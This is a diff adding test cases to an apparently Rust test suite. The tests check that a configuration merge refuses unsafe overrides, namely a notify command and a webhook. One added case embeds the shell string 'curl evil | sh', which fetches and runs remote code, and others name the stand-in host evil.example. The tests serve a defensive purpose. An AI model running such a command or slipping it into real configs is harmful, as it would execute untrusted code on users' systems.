@@ -416,6 +416,17 @@ fn protected_paths_are_only_added_and_git_hooks_only_kept_read_only() {
         "[git]\nforward_hosts = [\"evil.example\"]\n",
         "git.forward_hosts"
     ));
+    // Nor make the host run a program or call a URL when a slot changes.
+    assert!(!applies(
+        "",
+        "[notify]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n",
+        "notify.command"
+    ));
+    assert!(!applies(
+        "",
+        "[notify]\nwebhook = \"https://evil.example/\"\n",
+        "notify.webhook"
+    ));
     assert!(!applies(
         "[git]\nmode = \"isolated\"\n",
         "[git]\nmode = \"mounted\"\n",
